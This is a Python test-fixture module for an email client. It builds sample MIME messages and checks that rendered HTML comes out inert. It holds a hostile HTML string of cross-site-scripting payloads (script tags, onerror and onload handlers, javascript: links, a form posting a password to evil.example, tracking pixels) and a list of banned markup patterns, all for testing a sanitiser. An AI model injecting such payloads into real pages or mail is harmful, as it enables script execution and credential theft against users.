# What this module does: sample messages for the model and view tests (tests/mail/,
# tests/display/test_message.py): one built from header lines and a body, a multipart/mixed with
# text, HTML and a PDF, a text part in a given charset and transfer encoding, an attachment with a
# given Content-Disposition, hostile HTML, and the check that HTML came out inert.
from __future__ import annotations

import base64
from email.message import EmailMessage
from html.parser import HTMLParser

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 48  # 12,297 octets, every byte value
TRACKER = "https://tracker.example/p.gif"
TRACKER_RELATIVE = "//tracker.example/p2.gif"
HOSTILE_HTML = (
    "<p>Hi <b>there</b></p><script>alert(1)</script><img src=x onerror=alert(1)>"
    '<a href="javascript:alert(1)">click</a><iframe src="https://evil.example/f"></iframe>'
    '<form action="https://evil.example/post"><input name="pw"></form>'
    "<style>body{display:none}</style><svg onload=alert(1)><circle r=1></circle></svg>"
    f'<img src="{TRACKER}" alt="pixel"><img src="{TRACKER_RELATIVE}">'
    '<a href="https://ok.example/page" onclick="steal()">ok</a>'
    '<p style="background:url(https://tracker.example/bg)">styled</p>'
    '<img src="data:image/png;base64,AAAA"><img src="cid:logo@example">'
)


def raw(headers: str, body: bytes = b"body\r\n") -> bytes:
    """A message from header lines (str, may hold raw UTF-8) and a body."""
    return headers.replace("\n", "\r\n").encode("utf-8") + b"\r\n\r\n" + body


def mixed(*, html: str = "<p>Hello <b>caf\u00e9</b></p>", cte: str = "base64") -> EmailMessage:
    """multipart/mixed(multipart/alternative(text/plain, text/html), application/pdf)."""
    msg = EmailMessage()
    msg["Subject"] = "Caf\u00e9 \u2713 report"
    msg["From"] = "Jos\u00e9 M\u00fcller <jose@example.com>"
    msg["To"] = "alice@example.com"
    msg["Date"] = "Mon, 1 Jan 2024 09:00:00 +0000"
    msg.set_content("hello caf\u00e9\n", cte="base64")
    msg.add_alternative(html, subtype="html", cte=cte)
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="report.pdf")
    return msg


def text_part(charset: str | None, cte: str, body: bytes) -> bytes:
    declared = f"; charset={charset}" if charset else ""
    head = f"Subject: t\nContent-Type: text/plain{declared}\nContent-Transfer-Encoding: {cte}"
    return raw(head, body)


def with_attachment(disposition: str, data: bytes = b"payload") -> bytes:
    body = (
        (
            "--b\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
            "--b\r\nContent-Type: application/octet-stream\r\n"
            f"Content-Disposition: {disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        ).encode()
        + base64.encodebytes(data)
        + b"--b--\r\n"
    )
    return raw('Subject: a\nContent-Type: multipart/mixed; boundary="b"', body)


class Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def assert_no_active_markup(source: str, *, own_styles: bool = False) -> None:
    """No active element or attribute; `own_styles`: the view's inline style attributes allowed."""
    for tag, attrs in Elements(source).found:
        assert tag not in {"script", "style", "iframe", "form", "input", "svg", "object", "embed"}
        banned = [n for n in attrs if n.startswith("on") or (n == "style" and not own_styles)]
        assert not banned, tag
        for name in ("href", "src"):
            assert not attrs.get(name, "").lower().startswith(("javascript:", "data:")), attrs


DROPPED = (
    *("<script", "onerror", "javascript:", "<iframe", "<form", "<input", "<style", "<svg"),
    *("onload", "onclick", "style=", "alert(", "evil.example", "data:", "cid:"),
)
